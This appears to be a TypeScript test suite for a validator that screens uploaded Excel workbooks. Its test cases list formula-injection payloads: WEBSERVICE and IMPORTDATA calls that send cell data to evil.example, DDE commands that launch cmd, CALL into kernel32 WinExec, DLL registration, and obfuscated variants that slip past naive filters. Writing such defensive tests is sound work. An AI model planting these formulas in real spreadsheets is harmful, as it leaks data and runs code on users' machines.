import { checkOfficeFile } from './check-office-file';
import { office, type OfficeOptions } from './test-office';
import { zip } from './test-zip';

const SHEET = 'application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml';

/** A workbook with one sheet, or with other parts. */
const workbook = (sheet: string, parts: OfficeOptions['parts'] = {}) =>
  office('xlsx', {
    related: [{ type: 'worksheet', target: 'worksheets/sheet1.xml' }],
    types: { 'xl/worksheets/sheet1.xml': SHEET },
    parts: { 'xl/worksheets/sheet1.xml': `<worksheet><sheetData>${sheet}</sheetData></worksheet>`, ...parts },
  });
const cell = (formula: string) => `<row r="1"><c r="A1"><f>${formula}</f><v>1</v></c></row>`;

const codeOf = (data: Buffer): string => {
  try {
    checkOfficeFile(data);
    return 'taken';
  } catch (error) {
    return (error as { code: string }).code;
  }
};

test.each([
  ['WEBSERVICE', '_xlfn.WEBSERVICE(&quot;http://evil.example/&quot;&amp;A1)'],
  ['WEBSERVICE in lower case', 'webservice (A1)'],
  ['WEBSERVICE with letters as entities', '&#87;EB&#x53;ERVICE(A1)'],
  ['WEBSERVICE in CDATA', '<![CDATA[WEBSERVICE(A1)]]>'],
  ['WEBSERVICE around a comment', 'WEB<!-- -->SERVICE(A1)'],
  ['WEBSERVICE within another function', 'IF(A1&gt;0,SUM(WEBSERVICE(A2)),0)'],
  ['IMAGE', '_xlfn.IMAGE("https://evil.example/a.png")'],
  ['RTD', 'RTD("prog.id",,"topic")'],
  ['DDE of LibreOffice', 'DDE("soffice";"file";"A1")'],
  ['CALL', 'CALL("kernel32","WinExec","JCJ","calc",0)'],
  ['REGISTER', 'REGISTER("a.dll","f")'],
  ['REGISTER.ID', 'REGISTER.ID("a.dll","f")'],
  ['IMPORTDATA of Google Sheets', 'IMPORTDATA("http://evil.example")'],
  ['HYPERLINK to a page', 'HYPERLINK("http://evil.example/"&amp;A1,"Ceník")'],
  ['HYPERLINK to a computed address', 'HYPERLINK(A1)'],
  ['a program by DDE', "cmd|'/c calc'!A1"],
  ['a quoted program by DDE', "'cmd'|'/c calc'!A1"],
  ['another file', "'http://evil.example/[a.xlsx]List1'!A1"],
  ['a file of the network', "'\\\\evil\\share\\[a.xlsx]List1'!A1"],
])('a formula with %s is refused', (_what, formula) => {
  expect(codeOf(workbook(cell(formula)))).toBe('media.file_unsafe');
});

test.each([
  ['a name', '', { 'xl/workbook.xml': '<workbook><definedNames><definedName name="a">WEBSERVICE("x")</definedName></definedNames></workbook>' }],
  ['a validation', '', { 'xl/worksheets/sheet1.xml': '<worksheet><dataValidations><dataValidation><formula1>WEBSERVICE("x")</formula1></dataValidation></dataValidations></worksheet>' }],
  ['a conditional format', '', { 'xl/worksheets/sheet1.xml': '<worksheet><conditionalFormatting><cfRule><formula>WEBSERVICE("x")</formula></cfRule></conditionalFormatting></worksheet>' }],
  ['an extension', '', { 'xl/worksheets/sheet1.xml': '<worksheet><extLst><ext><xm:f>WEBSERVICE("x")</xm:f></ext></extLst></worksheet>' }],
])('a formula that calls out is refused in %s', (_where, sheet, parts) => {
  expect(codeOf(workbook(sheet, parts))).toBe('media.file_unsafe');
}); // oxfmt-ignore

test.each([
  ['sums and texts', 'IF(SUM(A1:A9)&gt;10,"call(me) | WEBSERVICE(x)","")'],
  ['another sheet', "'Ceník | 2026'!A1+'Jana''s'!B2"],
  ['a range of sheets', "SUM('Leden:Březen'!A1)"],
  ['a link to a place in the document', 'HYPERLINK("#List2!A1","dále")'],
  ['names that contain those of functions', 'MYCALL(A1)+IMAGES(A1)+A.CALLS'],
  ['a table', 'SUM(Tabulka1[[#This Row],[Cena]])'],
])('a formula with %s is accepted', (_what, formula) => {
  expect(codeOf(workbook(cell(formula)))).toBe('taken');
});

test('texts of cells are not formulas', () => {
  expect(codeOf(workbook('<row><c t="inlineStr"><is><t>WEBSERVICE("x") | DDE(</t></is></c></row>'))).toBe('taken');
});

test('a large price list is accepted', () => {
  const rows = Array.from(
    { length: 150_000 },
    (_, n) => `<row r="${n}"><c r="A${n}"><f>B${n}*${(n * 7919) % 9973}</f></c></row>`,
  );
  expect(codeOf(workbook(rows.join('')))).toBe('taken');
});

test.each([
  ['more than 200 times its size', zip({ 'xl/workbook.xml': Buffer.alloc(4_000_000, 'a') })],
  [
    'more than 100 MB',
    zip([{ name: 'xl/workbook.xml', data: Buffer.alloc(1_000_000, 'ab'), stored: true, size: 101 * 1024 * 1024 }]),
  ],
])('an archive that unpacks to %s is refused', (_what, data) => {
  expect(() => checkOfficeFile(data)).toThrow('too much to unpack');
  expect(codeOf(data)).toBe('media.file_unreadable');
});
